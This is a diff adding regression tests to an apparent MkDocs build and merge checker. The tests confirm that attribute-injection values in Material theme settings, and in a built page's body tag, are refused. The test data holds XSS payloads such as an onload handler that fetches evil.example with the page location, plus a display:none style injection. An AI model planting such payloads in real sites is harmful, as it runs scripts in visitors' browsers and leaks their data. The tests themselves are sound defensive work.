@@ -10,6 +10,7 @@ import sys
 from pathlib import Path
 
 from .platformkit import write_platform
+from .test_build_end import platform  # noqa: F401  (the fixture)
 from .sitekit import _run, build, check, paired_policy, write_site
 
 PLANTED = "planted.txt"
@@ -181,3 +182,44 @@ def test_a_content_file_mkdocs_renders_as_a_template_is_refused(tmp_path):
         assert run.returncode != 0 and any(report.startswith(f"mkdocs.yml:{line}: E406 ")
                                            for report in run.coded_lines()), run.output
     assert not (root / "site").exists() or not leaks(root / "site", [WITHHELD_BODY])
+
+
+# What Material prints, unescaped, into the <body> and <html> tags from mkdocs.yml: the palette as attributes, the
+# direction as dir. A quote ends the attribute and another begins (no blank needed: the HTML standard reads on).
+DOCUMENT_TAG_SETTINGS = {
+    "scheme": ('x"onload="fetch(`//evil.example/`+location)', "事件属性 onload（<body>）"),
+    "primary": ('y"style="display:none', "style="),
+    "direction": ("rtl", 'dir="rtl"'),
+}
+
+
+def test_what_the_theme_prints_into_the_body_tag_is_checked(tmp_path):
+    """`theme.palette.scheme: x"onload="fetch(…)"` became `<body … data-md-color-scheme="x"onload="fetch(…)">`: a
+    script on every page, exit 0 (the page frame was checked as html5ever parses a fragment, which drops the <html>
+    and <body> tags with their attributes); `theme.direction: rtl` showed each paragraph of digit groups in reverse
+    (`8000 0013 138` read 138 0013 8000), what a page's own dir="rtl" is refused for. Now E401 on the line."""
+    for name, (value, what) in DOCUMENT_TAG_SETTINGS.items():
+        theme = {"name": "material", "language": "zh", "font": False, "features": ["navigation.indexes"],
+                 "custom_dir": str(Path(__file__).resolve().parent.parent / "overrides")}
+        theme.update({"direction": value} if name == "direction" else {"palette": {name: value}})
+        root = write_site(tmp_path / name, paired_policy(), mkdocs_extra={"theme": theme})
+        line = next(number for number, text in enumerate((root / "mkdocs.yml").read_text(encoding="utf-8").split("\n"),
+                                                         start=1) if f"{name}:" in text)
+        run = build(root)
+        assert run.returncode != 0 and any(report.startswith(f"mkdocs.yml:{line}: E401 ") and what in report
+                                           for report in run.coded_lines()), run.output
+        assert not (root / "site").exists()
+
+
+def test_a_unit_page_whose_body_tag_runs_a_script_is_refused(platform):
+    """The compromised job's side: a page of its own output (listed and sealed) whose <body> (or a second <body> tag
+    further down, whose attributes a browser adds to the page's body) runs a script on loading. The merge read
+    the page as a fragment, without them, and merged it."""
+    from disclosure.platform.unit_manifest import seal_unit_manifest
+
+    from .test_merge_verifies import refused
+    page = platform / "build/units/jyj/jyj/guide/guide/index.html"
+    text = page.read_text(encoding="utf-8")
+    page.write_text(text.replace("</body>", '<body onload="fetch(\'//evil.example/\'+location)"></body>', 1), encoding="utf-8")
+    seal_unit_manifest(platform / "build/units/jyj", "jyj")
+    refused(platform, "build/units/jyj/jyj/guide/guide/index.html:1: E700 ")
